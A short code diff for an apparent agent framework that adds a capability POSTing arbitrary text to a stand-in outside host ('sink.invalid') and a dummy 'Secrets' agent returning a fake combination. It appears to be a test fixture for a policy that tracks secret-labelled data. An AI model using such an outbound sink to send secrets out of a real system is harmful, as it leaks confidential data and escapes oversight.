@@ -10,3 +10,16 @@ class Reporter(aip.Agent):
     async def report(self, path: str, text: str, ctx: aip.Context, key: str = "") -> Any:
         request = {"path": path, "text": text, "mode": "create"}
         return await ctx.effect("reports", request, key=key or path)
+
+    @aip.capability
+    async def tell_the_world(self, text: str, ctx: aip.Context) -> Any:
+        request = {"method": "POST", "url": "https://sink.invalid/", "body": text}
+        return await ctx.effect("outside", request)
+
+
+class Secrets(aip.Agent):
+    """What it answers is labelled secret by the policy's catalogue."""
+
+    @aip.capability
+    async def read(self) -> str:
+        return "the combination is 12345"
